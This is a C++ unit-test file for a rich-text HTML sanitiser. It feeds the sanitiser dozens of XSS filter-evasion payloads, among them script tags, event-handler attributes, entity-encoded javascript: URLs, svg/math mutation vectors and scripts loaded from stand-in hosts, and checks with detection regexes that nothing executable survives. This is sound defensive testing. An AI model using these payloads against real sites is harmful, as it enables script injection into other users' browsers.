// The rich-text sanitiser against XSS filter-evasion payloads (OWASP cheat sheet style) and the formatting
// it must keep.
#include "util/html_sanitizer.hpp"

#include <gtest/gtest.h>

#include <random>
#include <regex>
#include <string>
#include <vector>

using shopfloor::html_to_text;
using shopfloor::sanitize_html;

namespace {

std::string lower(std::string s) {
  for (auto& c : s)
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  return s;
}

// No executable vector: no script/style/iframe/object/embed/svg/math element, no event handler attribute,
// no style attribute, no javascript:/vbscript:/data: URL anywhere in a tag.
void expect_safe(const std::string& payload) {
  std::string out = sanitize_html(payload);
  std::string l = lower(out);
  SCOPED_TRACE("payload: " + payload + "\noutput: " + out);
  for (const char* bad : {"<script", "<style", "<iframe", "<object", "<embed", "<svg", "<math", "<template",
                          "<noscript", "<textarea", "<meta", "<link", "<base", "<form", "<input", "<frame"})
    EXPECT_EQ(l.find(bad), std::string::npos) << bad;
  // Inside tags only (text may legitimately mention "javascript:" once escaped).
  std::regex tag("<[a-z][^>]*>");
  for (auto it = std::sregex_iterator(l.begin(), l.end(), tag); it != std::sregex_iterator(); ++it) {
    std::string t = it->str();
    // Attribute names only: quoted values are data (the output always quotes them).
    std::string names = std::regex_replace(t, std::regex("=\"[^\"]*\""), "=\"\"");
    EXPECT_FALSE(std::regex_search(names, std::regex("[\\s/\"']on[a-z]+\\s*="))) << t;
    EXPECT_TRUE(std::regex_match(names, std::regex("<[a-z0-9]+( [a-z]+=\"\")*>"))) << t;
    EXPECT_EQ(t.find("style="), std::string::npos) << t;
    EXPECT_EQ(t.find("javascript"), std::string::npos) << t;
    EXPECT_EQ(t.find("vbscript"), std::string::npos) << t;
    EXPECT_EQ(t.find("data:"), std::string::npos) << t;
    EXPECT_EQ(t.find("srcdoc"), std::string::npos) << t;
    EXPECT_EQ(t.find("&#"), std::string::npos) << t;  // nothing left for the browser to decode into a scheme
  }
  // Every '<' in the output starts an allowed tag; every '>' ends one (text is escaped).
  std::regex any_lt(
      "<(?!/?(p|br|strong|b|em|i|u|s|h2|h3|h4|ul|ol|li|blockquote|a|img|figure|figcaption|hr|"
      "code|pre|span|table|thead|tbody|tr|th|td)[ >])");
  EXPECT_FALSE(std::regex_search(l, any_lt));
  EXPECT_EQ(out.find('\0'), std::string::npos);
}

const std::vector<std::string> payloads = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<script/src=//evil.example/x.js></script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/ok.png\" onerror=\"alert(1)\">",
    "<img src=/ok.png\tonerror=alert(1)>",
    "<img/src=/x.png/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG "
    "SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#"
    "39;"
    "&#88;&#83;&#83;&#39;&#41;>",
    "<IMG "
    "SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#"
    "0000041>",
    "<IMG "
    "SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53"
    "&#x53&#x27&#x29>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\rscript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/\\evil.example/\">x</a>",
    "<a href=\"x\" onmouseover=\"alert(1)\">x</a>",
    "<a href=\"/ok\"onclick=alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<style>@import 'http://xss.rocks/xss.css';</style>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script>alert(1)",
    "<img src=\"x\" alt=\"\" onerror=\"alert(1)\"",
    "<p title=\"\"><img src=x onerror=alert(1)>\">",
    "<p title='x' onclick='alert(1)'>q</p>",
    "<a href='/ok' title=\"a\"b\" onfocus=alert(1) autofocus>x</a>",
    std::string("<scr\0ipt>alert(1)</scr\0ipt>", 29),
    std::string("<img src=x on\0error=alert(1)>", 29),
    std::string("<a href=\"java\0script:alert(1)\">x</a>", 36),
    "<a href=\"\xC3\x80javascript:alert(1)\">x</a>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<div onclick=alert(1)>div</div>",
    "<img src=\"/a.png\" width=\"100 onload=alert(1)\">",
    "<a href=\"/ok\" target=\"_blank\" rel=\"opener\">x</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"http://ok.example/\" onmouseover=alert(1)//\">x</a>",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"&#X6a&#X61vascript:alert(1)\">x</a>",
};

}  // namespace

TEST(HtmlSanitizer, XssPayloadsHaveNoExecutableVector) {
  ASSERT_GE(payloads.size(), 40u);
  for (const auto& p : payloads) expect_safe(p);
  // Wrapped in ordinary formatting and Thai text, too.
  for (const auto& p : payloads) expect_safe("<p>สวัสดี <strong>" + p + "</strong> ครับ</p>");
}

TEST(HtmlSanitizer, SpecificRefusals) {
  EXPECT_EQ(sanitize_html("<a href=\"jav&#x61;script:alert(1)\">x</a>"), "<a>x</a>");
  EXPECT_EQ(sanitize_html("<img src=x onerror=alert(1)>"), "");
  EXPECT_EQ(sanitize_html("<script>alert(1)</script>ok"), "ok");
  EXPECT_EQ(sanitize_html("<!--><script>alert(1)</script>-->"), "--&gt;");
  EXPECT_EQ(sanitize_html("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"), "\"&gt;");
  EXPECT_EQ(sanitize_html("<svg><p>in svg</p></svg>after"), "after");
  EXPECT_EQ(sanitize_html("<svg/>after"), "after");
  EXPECT_EQ(sanitize_html("<<script>script>alert(1)"), "&lt;");
  EXPECT_EQ(sanitize_html("a < b && c > d"), "a &lt; b &amp;&amp; c &gt; d");
}

TEST(HtmlSanitizer, KeepsFormattingAndThai) {
  std::string in =
      "<h2>หัวข้อ</h2><p>ข้อความ <strong>ตัวหนา</strong> <em>เอียง</em> <u>ขีดเส้น</u> <s>ขีดฆ่า</s><br>"
      "บรรทัดใหม่</p><ul><li>หนึ่ง</li><li>สอง</li></ul><ol start=\"3\"><li>สาม</li></ol>"
      "<blockquote>อ้างอิง</blockquote><pre><code>x &lt; 1</code></pre><hr>"
      "<figure><img src=\"/media/ab.png\" alt=\"ภาพ\" width=\"320\" "
      "height=\"200\"><figcaption>คำบรรยาย</figcaption>"
      "</figure><table><thead><tr><th>ก</th></tr></thead><tbody><tr><td "
      "colspan=\"2\">ข</td></tr></tbody></table>";
  EXPECT_EQ(sanitize_html(in), in);
  EXPECT_EQ(sanitize_html("<h3>ก</h3><h4>ข</h4><span>ค</span><b>ง</b><i>จ</i>"),
            "<h3>ก</h3><h4>ข</h4><span>ค</span><b>ง</b><i>จ</i>");
}

TEST(HtmlSanitizer, Links) {
  EXPECT_EQ(
      sanitize_html("<a href=\"https://example.com/a?b=1&amp;c=2\" title=\"t\" target=\"_blank\">ลิงก์</a>"),
      "<a href=\"https://example.com/a?b=1&amp;c=2\" title=\"t\" target=\"_blank\" "
      "rel=\"noopener noreferrer\">ลิงก์</a>");
  EXPECT_EQ(sanitize_html("<a href=\"mailto:hr@example.com\">m</a>"),
            "<a href=\"mailto:hr@example.com\" rel=\"noopener noreferrer\">m</a>");
  EXPECT_EQ(sanitize_html("<a href=\"/learning/1\">l</a>"),
            "<a href=\"/learning/1\" rel=\"noopener noreferrer\">l</a>");
  EXPECT_EQ(sanitize_html("<A HREF=HTTP://EXAMPLE.COM>x</A>"),
            "<a href=\"HTTP://EXAMPLE.COM\" rel=\"noopener noreferrer\">x</a>");
  EXPECT_EQ(sanitize_html("<a href=\"relative/path\">x</a>"), "<a>x</a>");
  EXPECT_EQ(sanitize_html("<a href=\" /learning/a b\n\">x</a>"),
            "<a href=\"/learning/a%20b\" rel=\"noopener noreferrer\">x</a>");
  EXPECT_EQ(sanitize_html("<a href=\"/ /evil.example\">x</a>"), "<a>x</a>");
  EXPECT_EQ(sanitize_html("<a href=\"#top\">x</a>"), "<a>x</a>");
  EXPECT_EQ(sanitize_html("<a href=\"/x\" target=\"evil\">x</a>"),
            "<a href=\"/x\" rel=\"noopener noreferrer\">x</a>");
}

TEST(HtmlSanitizer, StructureRepairs) {
  EXPECT_EQ(sanitize_html("<p>open <strong>bold"), "<p>open <strong>bold</strong></p>");
  EXPECT_EQ(sanitize_html("</p>stray</strong>"), "stray");
  EXPECT_EQ(sanitize_html("<p>a<p>b"), "<p>a</p><p>b</p>");
  EXPECT_EQ(sanitize_html("<ul><li>a<li>b</ul>"), "<ul><li>a</li><li>b</li></ul>");
  EXPECT_EQ(sanitize_html("<div><p>x</p></div><font color=red>y</font>"), "<p>x</p>y");
  EXPECT_EQ(sanitize_html("<em><strong>x</em>y</strong>"), "<em><strong>x</strong></em>y");
  EXPECT_EQ(sanitize_html("<p title=\"a&quot;b\">x</p>"), "<p>x</p>");
}

TEST(HtmlSanitizer, Entities) {
  EXPECT_EQ(sanitize_html("&lt;b&gt; &amp; &copy; &#x0E01; &#3585 &nbsp;"),
            "&lt;b&gt; &amp; \xC2\xA9 ก ก \xC2\xA0");
  EXPECT_EQ(sanitize_html("&unknown; &"), "&amp;unknown; &amp;");
  EXPECT_EQ(sanitize_html("&#0;x&#xD800;"), "\xEF\xBF\xBDx\xEF\xBF\xBD");
  EXPECT_EQ(sanitize_html("bad \xFF utf8"), "bad \xEF\xBF\xBD utf8");
}

TEST(HtmlSanitizer, HtmlToText) {
  EXPECT_EQ(html_to_text("<p>สวัสดี<strong>ครับ</strong></p><p>บรรทัด&nbsp;สอง &amp; สาม</p>"),
            "สวัสดีครับ บรรทัด สอง & สาม");
  EXPECT_EQ(html_to_text("<script>var x = '<p>';</script><p>a</p><br>b<style>p{}</style>"), "a b");
  EXPECT_EQ(html_to_text("<li>หนึ่ง</li><li>สอง</li>"), "หนึ่ง สอง");
  EXPECT_EQ(html_to_text(""), "");
}

TEST(HtmlSanitizer, HostileNestingStaysFast) {
  std::string in;
  for (int i = 0; i < 20000; ++i) in += "<span>";
  for (int i = 0; i < 20000; ++i) in += "</em>";
  in += "ท้าย";
  std::string out = sanitize_html(in);
  EXPECT_NE(out.find("ท้าย"), std::string::npos);
  EXPECT_EQ(out.find("<span><span>"), 0u);
}

// Random mixes of the pieces attacks are made of: whatever the parser makes of them, the output is safe.
TEST(HtmlSanitizer, RandomFragmentsStaySafe) {
  const std::vector<std::string> pieces = {
      "<",       ">",        "\"",  "'",       "=",      "/",      " ",           "\t",          "\n",
      "script",  "img",      "src", "onerror", "href",   "a",      "p",           "svg",         "noscript",
      "<!--",    "-->",      "<!",  "</",      "&#x6A;", "&#106",  "javascript:", "JaVaScRiPt:", "data:",
      "&colon;", "alert(1)", "/ok", "//x",     "style",  "iframe", "srcdoc",      "<![CDATA[",   "]]>",
      "`",       "math",     "ก",   "&amp;",   "&",      "x",      "onload",      "textarea",    "\x01"};
  std::mt19937 rng(20261122);
  std::uniform_int_distribution<std::size_t> pick(0, pieces.size() - 1), len(1, 40);
  for (int i = 0; i < 3000; ++i) {
    std::string s;
    for (std::size_t n = len(rng); n > 0; --n) s += pieces[pick(rng)];
    expect_safe(s);
    // Sanitising twice changes nothing: the output is already in its normal form.
    std::string once = sanitize_html(s);
    EXPECT_EQ(sanitize_html(once), once) << s;
  }
}
